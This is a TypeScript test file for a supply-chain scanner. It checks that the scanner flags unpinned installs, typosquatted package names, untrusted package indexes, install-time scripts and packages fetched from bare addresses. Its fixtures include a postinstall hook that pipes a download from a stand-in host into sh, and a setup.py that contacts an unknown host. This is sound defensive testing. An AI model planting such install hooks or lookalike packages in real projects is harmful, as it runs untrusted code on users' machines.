import { describe, expect, it } from "vitest";
import { supplyChain } from "../../detectors/supply-chain.ts";
import { signalsOf } from "../../testing/signals-of.ts";

const shell = (script: string) => signalsOf(supplyChain, { "a.sh": `#!/bin/sh\n${script}\n` });

describe("supply-chain: supply chain", () => {
  it("notes packages without a version, and says nothing of pinned ones", async () => {
    expect(await shell("pip install pandas")).toEqual(["supply-chain.unpinned note a.sh"]);
    expect(await shell("pip install pandas==2.2.2\nnpm install zod@3.23.8\nnpm ci")).toEqual([]);
  });

  it("asks about a name one slip away from a well-known one", async () => {
    expect(await shell("pip install reqeusts==1.0")).toEqual([
      "supply-chain.lookalike-package suspicious a.sh",
    ]);
    expect(await shell("npm install lodahs@1.0.0")).toEqual([
      "supply-chain.lookalike-package suspicious a.sh",
    ]);
    expect(await shell("npm install lodash4@1.0.0 preact@10.0.0")).toEqual([]);
  });

  it("asks about indexes that anybody can change, and takes known mirrors for what they are", async () => {
    expect(await shell("pip install -i http://203.0.113.5/simple x==1")).toContain(
      "supply-chain.foreign-index suspicious a.sh",
    );
    expect(await shell("pip install -i https://pypi.tuna.tsinghua.edu.cn/simple x==1")).toEqual([]);
  });

  it("asks about scripts that run while installing", async () => {
    const manifest = (postinstall: string) => ({
      "package.json": JSON.stringify({ scripts: { postinstall } }),
    });
    expect(await signalsOf(supplyChain, manifest("curl https://unknown.example/x | sh"))).toEqual([
      "supply-chain.install-script suspicious package.json",
    ]);
    expect(await signalsOf(supplyChain, manifest("husky"))).toEqual([
      "supply-chain.install-script note package.json",
    ]);
    expect(
      await signalsOf(supplyChain, {
        "setup.py": "import urllib.request\nurllib.request.urlopen('https://unknown.example/x')\n",
      }),
    ).toEqual(["supply-chain.runs-at-install suspicious setup.py"]);
  });

  it("asks about packages from addresses", async () => {
    expect(await signalsOf(supplyChain, { "requirements.txt": "x @ http://203.0.113.5/x.tar.gz\n" })).toEqual(
      ["supply-chain.package-from-address conclusive requirements.txt"],
    );
    expect(await shell("pip install git+https://github.com/openai/whisper.git")).toEqual([
      "supply-chain.package-from-repository note a.sh",
    ]);
  });
});
